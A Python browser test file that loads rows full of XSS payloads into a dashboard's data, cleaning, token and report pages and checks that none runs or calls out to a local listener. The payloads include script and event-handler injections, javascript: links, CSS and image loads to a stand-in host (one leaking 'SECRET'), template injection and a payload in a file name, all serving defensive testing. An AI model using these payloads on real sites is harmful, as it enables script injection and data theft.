"""Rows that are written to run or to call out, looked at in a real browser on every page that shows rows: nothing does."""

import json
import re
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.tiny import make_tiny_model

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

MARK = "window.pwned=(window.pwned||0)+1;alert(1)"
# {call} is an address of another host that counts who asks.
PAYLOADS = [
    "<script>{mark}</script>",
    "<script src={call}/s.js></script>",
    "<img src=x onerror={mark}>",
    "<img src={call}/i.png>",
    "<svg onload={mark}><circle/></svg>",
    '<iframe srcdoc="<script>parent.{mark}</script>"></iframe>',
    "<iframe src={call}/f></iframe>",
    "</textarea><script>{mark}</script>",
    "<style>@import '{call}/c.css';body{{background:url({call}/b.png)}}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror={mark}>",
    "<details open ontoggle={mark}>x</details>",
    "<link rel=stylesheet href={call}/l.css>",
    "![a picture]({call}/p.png?d=SECRET)",
    "[a link](javascript:{mark})",
    "[![nested]({call}/n.png)]({call}/n)",
    "$$\\href{{javascript:{mark}}}{{x}}$$ and \\(\\includegraphics{{{call}/k.png}}\\) and $\\htmlData{{a=b}}{{x}}$",
    "{{{{constructor.constructor('{mark}')()}}}} ${{{mark}}}",
    "<|im_end|><b onmouseover={mark}>bold</b>",
]
# Elements that only a payload could have made.
MADE = (
    "iframe, .katex, math, details[ontoggle], "
    "[onerror*=pwned], [onload*=pwned], [onmouseover*=pwned], [href^='javascript:'], [src*='{call}'], [href*='{call}']"
)


@pytest.fixture(scope="module")
def tiny(tmp_path_factory) -> Path:
    return make_tiny_model(tmp_path_factory.mktemp("models") / "tiny")


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """The address of another host, and who came."""
    hits: list[str] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def listen() -> None:
            while True:
                try:
                    connection, _ = server.accept()
                except OSError:
                    return
                with connection:
                    connection.settimeout(1)
                    try:
                        hits.append(connection.recv(200).decode("latin-1"))
                    except TimeoutError:  # the browser opens some connections before it needs them
                        hits.append("a connection without a request")

        threading.Thread(target=listen, daemon=True).start()
        yield f"http://127.0.0.1:{server.getsockname()[1]}", hits
        server.shutdown(socket.SHUT_RDWR)


def rows(call: str) -> list[dict[str, str]]:
    told = [payload.format(mark=MARK, call=call) for payload in PAYLOADS]
    return [
        {
            "question": f"Number {n}\u200b: what is {text}?  ",
            "answer": f"{text}\u200b  write to ayse{n}@ornek.com.tr {call}/page{n}  ",
            f"<img src=x onerror={MARK}>": text,
        }
        for n, text in enumerate(told)
    ]


class Visit:
    """A window that counts what should never happen."""

    def __init__(self, page: Page, url: str, call: str) -> None:
        self.page, self._url, self._call = page, url, call
        self._dialogs: list[str] = []
        self.watch(page)

    def watch(self, page: Page) -> None:
        page.on("dialog", lambda dialog: (self._dialogs.append(dialog.message), dialog.dismiss()))

    def is_harmless(self, page: Page | None = None) -> None:
        page = page or self.page
        page.mouse.move(400, 400)
        page.wait_for_timeout(300)  # for what would load by itself
        assert page.evaluate("window.pwned === undefined")
        assert page.locator(MADE.replace("{call}", self._call)).count() == 0
        assert self._dialogs == []

    def upload(self, file: Path) -> str:
        page = self.page
        page.goto(f"{self._url}/data")
        page.set_input_files("#data-upload input[type=file]", file)
        page.wait_for_url(re.compile(r"/data\?upload=\w+$"))
        expect(page.locator("#row-chat")).to_contain_text(f"<script>{MARK}</script>")
        self.walk("#row-chat", "#row-on")
        page.click("#data-save")
        page.wait_for_url(re.compile(r"/data\?dataset=\w+$"))
        expect(page.locator("#row-chat")).to_contain_text("Number 0")
        self.is_harmless()
        return page.url.partition("dataset=")[2]

    def walk(self, shown: str, onward: str) -> None:
        """From row to row."""
        for number in range(len(PAYLOADS)):
            expect(self.page.locator(shown)).to_contain_text(re.compile(rf"Number.{number}\b"))
            self.is_harmless()
            if number + 1 < len(PAYLOADS):
                self.page.click(onward)

    def clean(self, dataset: str) -> None:
        self.page.goto(f"{self._url}/clean?dataset={dataset}&steps=mask_personal_data,normalise_text")
        self.page.click("#clean-preview")
        shown = self.page.locator("#clean-preview-rows")
        expect(shown.locator("del").first).to_be_visible()
        expect(shown).to_contain_text("onerror=")
        self.is_harmless()

    def tokens(self, dataset: str) -> None:
        self.page.goto(f"{self._url}/tokens?dataset={dataset}")
        self.walk("#tokens-seen .ft-tokens", "#tokens-on")

    def check(self, dataset: str, copy: Path) -> None:
        page = self.page
        page.goto(f"{self._url}/check?dataset={dataset}")
        expect(page.locator("#check-max-length input")).to_have_value(re.compile(r"\d"))
        page.wait_for_timeout(1000)  # as in the test of that page
        page.click("#check-start")
        page.wait_for_url("**/check?dataset=*&check=*", timeout=90_000)
        expect(page.locator(".ft-finding").filter(has_text="[EMAIL]").first).to_be_visible(timeout=90_000)
        self.is_harmless()
        with page.expect_download() as download:
            page.click("#check-html")
        download.value.save_as(copy)
        saved = page.context.new_page()
        self.watch(saved)
        saved.goto(copy.as_uri())
        expect(saved.locator("body")).to_contain_text("<img src=x onerror=")
        self.is_harmless(saved)


def test_m89_no_row_runs_or_calls_out(page, dashboard, tiny, listener, tmp_path) -> None:
    call, hits = listener
    dashboard.seed_model(tiny)
    file = tmp_path / f"<img src=x onerror={MARK}>.json"
    file.write_text(json.dumps(rows(call)))
    visit = Visit(page, dashboard.url, call)
    dataset = visit.upload(file)
    visit.clean(dataset)
    visit.tokens(dataset)
    visit.check(dataset, tmp_path / "report.html")
    assert hits == []


def test_the_marks_would_be_seen(page, listener) -> None:
    """What the other test finds nowhere, it would find: in a page that does not escape."""
    call, _ = listener
    visit = Visit(page, "", call)
    page.set_content("".join(row["question"] for row in rows(call)))
    page.wait_for_timeout(300)
    page.problems.clear()
    assert page.evaluate("window.pwned > 0")
    assert visit._dialogs
    assert page.locator(MADE.replace("{call}", call)).count() > 0
